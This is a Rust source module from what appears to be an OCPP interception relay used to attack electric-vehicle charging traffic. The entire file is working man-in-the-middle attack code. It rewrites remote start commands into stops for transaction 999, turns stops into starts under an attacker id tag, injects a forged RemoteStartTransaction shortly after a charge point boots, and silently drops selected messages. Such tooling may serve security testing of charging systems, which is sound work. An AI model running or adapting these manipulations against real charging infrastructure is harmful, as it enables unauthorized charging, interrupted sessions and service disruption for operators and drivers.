//! Attack transforms applied by the interception relay
//!
//! A transform sees every text message with its direction and decides what
//! gets forwarded, plus an optional side effect (a delayed injection).
//! Anything that does not parse as OCPP-J is forwarded untouched.

use std::collections::HashMap;
use std::fmt;
use std::str::FromStr;
use std::time::Duration;

use parking_lot::Mutex;
use serde_json::{json, Map, Value};
use tracing::{debug, warn};
use uuid::Uuid;

use crate::direction::Direction;
use crate::ocpp::{Call, OcppMessage};

/// Correlation ids remembered for matching responses to their calls
const PENDING_LIMIT: usize = 1024;

/// Message manipulation selected for a relay
#[derive(Debug, Clone, PartialEq)]
pub enum AttackMode {
    /// Forward everything unchanged
    None,

    /// Rename a call, filling absent payload fields from `defaults`
    RewriteAction {
        from: String,
        to: String,
        direction: Direction,
        defaults: Map<String, Value>,
    },

    /// After forwarding `trigger`, send a forged call on the same path
    InjectAfter {
        trigger: String,
        direction: Direction,
        action: String,
        payload: Value,
        delay: Duration,
    },

    /// Silently discard matching calls
    Drop { action: String, direction: Direction },
}

impl AttackMode {
    /// Turn remote starts into remote stops of transaction 999
    pub fn modify_stop() -> Self {
        AttackMode::RewriteAction {
            from: "RemoteStartTransaction".into(),
            to: "RemoteStopTransaction".into(),
            direction: Direction::CsmsToChargePoint,
            defaults: defaults(json!({"transactionId": 999})),
        }
    }

    /// Turn remote stops into remote starts with an attacker id tag
    pub fn modify_start() -> Self {
        AttackMode::RewriteAction {
            from: "RemoteStopTransaction".into(),
            to: "RemoteStartTransaction".into(),
            direction: Direction::CsmsToChargePoint,
            defaults: defaults(json!({"connectorId": 1, "idTag": "ATTACK_TAG"})),
        }
    }

    /// Forge a remote start shortly after the charge point boots
    pub fn inject_fake() -> Self {
        AttackMode::InjectAfter {
            trigger: "BootNotification".into(),
            direction: Direction::CsmsToChargePoint,
            action: "RemoteStartTransaction".into(),
            payload: json!({"connectorId": 1, "idTag": "FAKE_INJECTED_TAG"}),
            delay: Duration::from_millis(500),
        }
    }

    pub fn is_none(&self) -> bool {
        matches!(self, AttackMode::None)
    }
}

impl Default for AttackMode {
    fn default() -> Self {
        AttackMode::None
    }
}

impl fmt::Display for AttackMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackMode::None => write!(f, "none"),
            AttackMode::RewriteAction { from, to, direction, .. } => {
                write!(f, "rewrite {} -> {} [{}]", from, to, direction)
            }
            AttackMode::InjectAfter { trigger, direction, action, delay, .. } => {
                write!(f, "inject {} {:?} after {} [{}]", action, delay, trigger, direction)
            }
            AttackMode::Drop { action, direction } => write!(f, "drop {} [{}]", action, direction),
        }
    }
}

impl FromStr for AttackMode {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.replace('_', "-").as_str() {
            "none" => Ok(AttackMode::None),
            "modify-stop" => Ok(AttackMode::modify_stop()),
            "modify-start" => Ok(AttackMode::modify_start()),
            "inject-fake" => Ok(AttackMode::inject_fake()),
            _ => Err(format!(
                "unknown attack mode '{}' (expected none, modify-stop, modify-start, inject-fake)",
                s
            )),
        }
    }
}

fn defaults(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

/// Side effect requested by a transform
#[derive(Debug, Clone, PartialEq)]
pub enum Effect {
    None,
    /// Send `message` to the destination after `delay`
    Inject { message: OcppMessage, delay: Duration },
}

/// What to do with one relayed message
#[derive(Debug, Clone, PartialEq)]
pub struct Transformed {
    /// Text to forward; `None` drops the message
    pub forward: Option<String>,
    pub effect: Effect,
}

impl Transformed {
    fn pass(text: &str) -> Self {
        Self {
            forward: Some(text.to_string()),
            effect: Effect::None,
        }
    }
}

/// Per-session transform state
///
/// Remembers which action each outstanding call carried so that a response
/// can trigger an injection keyed on the action it answers.
pub struct Transformer {
    mode: AttackMode,
    pending: Mutex<HashMap<String, String>>,
}

impl Transformer {
    pub fn new(mode: AttackMode) -> Self {
        Self {
            mode,
            pending: Mutex::new(HashMap::new()),
        }
    }

    pub fn mode(&self) -> &AttackMode {
        &self.mode
    }

    pub fn apply(&self, text: &str, direction: Direction) -> Transformed {
        if self.mode.is_none() {
            return Transformed::pass(text);
        }

        let message = match OcppMessage::parse_text(text) {
            Ok(message) => message,
            Err(e) => {
                debug!("[{}] Not OCPP-J, forwarding as is: {}", direction, e);
                return Transformed::pass(text);
            }
        };

        let answered = self.track(&message);

        match &self.mode {
            AttackMode::None => Transformed::pass(text),

            AttackMode::RewriteAction {
                from,
                to,
                direction: target,
                defaults,
            } => match message {
                OcppMessage::Call(call) if *target == direction && call.action == *from => {
                    warn!("ATTACK: rewriting {} -> {} [{}]", from, to, direction);
                    let rewritten = rewrite(call, to, defaults);
                    match rewritten.to_text() {
                        Ok(out) => Transformed {
                            forward: Some(out),
                            effect: Effect::None,
                        },
                        Err(e) => {
                            warn!("Failed to serialize rewritten message: {}", e);
                            Transformed::pass(text)
                        }
                    }
                }
                _ => Transformed::pass(text),
            },

            AttackMode::InjectAfter {
                trigger,
                direction: target,
                action,
                payload,
                delay,
            } => {
                let matched = *target == direction
                    && (message.action() == Some(trigger.as_str())
                        || answered.as_deref() == Some(trigger.as_str()));
                if !matched {
                    return Transformed::pass(text);
                }

                warn!("ATTACK: scheduling forged {} after {} [{}]", action, trigger, direction);
                let forged = Call {
                    message_id: format!("fake-{}", Uuid::new_v4()),
                    action: action.clone(),
                    payload: payload.clone(),
                };
                Transformed {
                    forward: Some(text.to_string()),
                    effect: Effect::Inject {
                        message: OcppMessage::Call(forged),
                        delay: *delay,
                    },
                }
            }

            AttackMode::Drop {
                action,
                direction: target,
            } => match message.action() {
                Some(a) if *target == direction && a == action => {
                    warn!("ATTACK: dropping {} [{}]", action, direction);
                    Transformed {
                        forward: None,
                        effect: Effect::None,
                    }
                }
                _ => Transformed::pass(text),
            },
        }
    }

    /// Record outgoing calls; for a response, return the action it answers
    fn track(&self, message: &OcppMessage) -> Option<String> {
        let mut pending = self.pending.lock();
        match message {
            OcppMessage::Call(call) => {
                if pending.len() >= PENDING_LIMIT {
                    pending.clear();
                }
                pending.insert(call.message_id.clone(), call.action.clone());
                None
            }
            other => pending.remove(other.message_id()),
        }
    }
}

fn rewrite(mut call: Call, to: &str, defaults: &Map<String, Value>) -> OcppMessage {
    call.action = to.to_string();
    if !call.payload.is_object() {
        call.payload = Value::Object(Map::new());
    }
    if let Value::Object(fields) = &mut call.payload {
        for (key, value) in defaults {
            fields.entry(key.clone()).or_insert_with(|| value.clone());
        }
    }
    OcppMessage::Call(call)
}
